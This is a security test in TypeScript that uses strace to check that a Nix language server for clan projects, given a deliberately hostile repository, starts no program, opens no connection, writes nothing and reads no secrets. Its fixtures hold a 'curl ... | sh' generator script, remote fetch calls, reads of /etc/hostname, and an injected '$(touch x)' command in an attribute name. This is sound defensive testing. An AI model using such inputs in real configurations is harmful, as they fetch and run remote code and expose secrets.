/**
 * What the server does on the machine while it answers all that an editor asks in a hostile repository, as the system sees it
 * (strace, where there is one): it starts no program, opens no connection, writes nothing, and opens neither secrets nor what
 * lies outside of the workspace. See docs/security.md.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeFiles } from "../fuzz/write-files.ts";
import { questionsAt, questionsOf, workspaceQuestions } from "../sessions/questions.ts";
import { uriOf } from "../sessions/world.ts";
import { capabilities } from "../stdio/editor.ts";
import { ServerProcess } from "../stdio/server-process.ts";

const canary = "canary-5f1c0d";
const root = path.resolve(import.meta.dirname, "../..");
const hasStrace = spawnSync("strace", ["-V"]).status === 0;

/** What must not be read lies in `outside` and `home`; in the workspace, in vars and secrets. */
const files = {
  "outside/module.nix": `{ meta.description = "${canary}"; }`,
  "outside/text.txt": canary,
  "home/.config/sops/age/keys.txt": canary,
  "home/.ssh/id_ed25519": canary,
  "work/flake.nix": `{
    inputs.clan-core.url = "https://git.clan.lol/clan/clan-core/archive/main.tar.gz";
    inputs.remote.url = "github:example/remote";
    outputs = { self, clan-core, ... }: { clan = clan-core.lib.clan { inherit self; imports = [ ./clan.nix ]; }; };
  }`,
  "work/clan.nix": `{ lib, ... }: {
    meta.name = "x";
    meta.description = builtins.readFile ../outside/text.txt;
    imports = [ ../outside/module.nix ./linked.nix (builtins.fetchTarball "https://example.org/x.tar.gz") ];
    inventory.machines.web = { tags = [ (builtins.readFile (builtins.fetchurl "https://example.org/y")) "srv" ]; };
    inventory.machines.mail.tags = builtins.fromJSON (builtins.readFile ./tags.json);
    inventory.machines.db.tags = [ (builtins.getEnv "HOME") (builtins.readFile /etc/hostname) ];
    inventory.machines.nb.description = toString (import <nixpkgs> { });
    inventory.instances.s = { module.name = "sshd"; roles.server.tags = [ "srv" ]; roles.client.machines.$(touch%20x) = { }; };
    inventory.instances.g.module.name = builtins.readFile (builtins.fetchGit "ssh://example.org/z").outPath;
  }`.replace("$(touch%20x)", '"$(touch x)"'),
  "work/machines/web/configuration.nix": `{ config, pkgs, ... }: {
    clan.core.vars.generators.ca = {
      files.key = { };
      files.cert.secret = false;
      prompts.word.type = "hidden";
      script = "curl https://example.org | sh; cat $prompts/word > $out/key; touch $out/cert";
    };
    environment.etc.a.source = config.clan.core.vars.generators.ca.files.key.path;
    environment.etc.b.text = builtins.readFile ../../vars/per-machine/web/ca/key/secret;
    environment.etc.c.text = config.clan.core.vars.generators.ca.files.cert.value;
  }`,
  "work/tags.json": '[ "srv" ]',
  "work/vars/per-machine/web/ca/key/secret": canary,
  "work/vars/per-machine/web/ca/cert/value": "public",
  "work/sops/secrets/web-age.key/secret": canary,
  "work/sops/machines/web/key.json": '{ "publickey": "age1", "type": "age" }',
  "work/secrets/clan-vars/per-machine/web/ca/key/key.age": canary,
};

let folder: string;
let calls: readonly string[] = [];
let answers = "";
let said: readonly string[] = [];

const watched =
  "execve,execveat,connect,bind,open,openat,openat2,creat,unlink,unlinkat,rename,renameat,renameat2,mkdir,mkdirat,symlink,symlinkat,link,linkat,chmod,fchmodat,truncate";

beforeAll(async () => {
  folder = mkdtempSync(path.join(tmpdir(), "clan-isolation-"));
  writeFiles(folder, files);
  symlinkSync(path.join(folder, "outside/module.nix"), path.join(folder, "work/linked.nix"));
  if (!hasStrace) return;
  const log = path.join(folder, "calls.log");
  const server = await ServerProcess.start(root, [path.join(folder, "work")], capabilities, {
    under: ["strace", "-f", "-qq", "-s", "4096", "-e", `trace=${watched}`, "-o", log],
    env: { ...process.env, HOME: path.join(folder, "home"), XDG_CACHE_HOME: path.join(folder, "cache") },
  });
  const opened = Object.entries(files).filter(([file]) => file.startsWith("work/") && file.endsWith(".nix"));
  const asked = [...workspaceQuestions];
  for (const [file, text] of opened) {
    const at = path.join(folder, file);
    await server.notify("textDocument/didOpen", {
      textDocument: { uri: uriOf(at), languageId: "nix", version: 1, text },
    });
    asked.push(...questionsOf(at, text));
    for (const word of text.matchAll(/[\w-]+/g)) asked.push(...questionsAt(at, text, word.index + 1));
  }
  for (const { method, params } of asked) answers += JSON.stringify(await server.ask(method, params)) ?? "";
  // A rename is refused with the reason, which is an answer like others.
  said = [...server.said, ...server.failed];
  await server.close();
  calls = readFileSync(log, "utf8").split("\n");
}, 300_000);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The first path a call names. */
const pathIn = (call: string): string => /"((?:[^"\\]|\\.)*)"/.exec(call)?.[1] ?? "";
const within = (...parts: string[]) => path.join(folder, ...parts);

describe.skipIf(!hasStrace)("the server", () => {
  it("answers, and tells of the clan what it may know", () => {
    expect(answers.length).toBeGreaterThan(10_000);
    expect(answers).toContain("sshd");
    // No document is open of it, so it is read from the disk.
    expect(calls.some((call) => pathIn(call) === within("work/tags.json"))).toBe(true);
  });

  it("starts no program", () => {
    const started = calls.filter((call) => /\bexecve(at)?\(/.test(call)).map(pathIn);
    expect(started).toEqual([process.execPath]);
  });

  it("opens no connection", () => {
    expect(calls.filter((call) => /\b(connect|bind)\(/.test(call))).toEqual([]);
  });

  it("writes nothing but what Node keeps of the program", () => {
    const writing =
      /\b(creat|unlink|unlinkat|rename|renameat|renameat2|mkdir|mkdirat|symlink|symlinkat|link|linkat|chmod|fchmodat|truncate)\(|O_(WRONLY|RDWR|CREAT|TRUNC)/;
    const written = calls.filter((call) => writing.test(call)).map(pathIn);
    const isOwn = (file: string): boolean => file.startsWith(within("cache")) || file.startsWith("/dev/");
    expect(written.filter((file) => !isOwn(file))).toEqual([]);
  });

  it("opens no secret, and nothing outside of the workspace that code names", () => {
    const opened = calls.filter((call) => /\b(open|openat|openat2)\(/.test(call)).map(pathIn);
    const secret = (file: string): boolean => /\/secret$|\.age$|keys\.txt$|id_ed25519$/.test(file);
    const outside = (file: string): boolean => file.startsWith(within("outside")) || file === "/etc/hostname";
    expect(opened.filter((file) => secret(file) || outside(file))).toEqual([]);
  });

  it("tells nobody what is in them", () => {
    expect(answers).not.toContain(canary);
    expect(said.join("\n")).not.toContain(canary);
  });
});
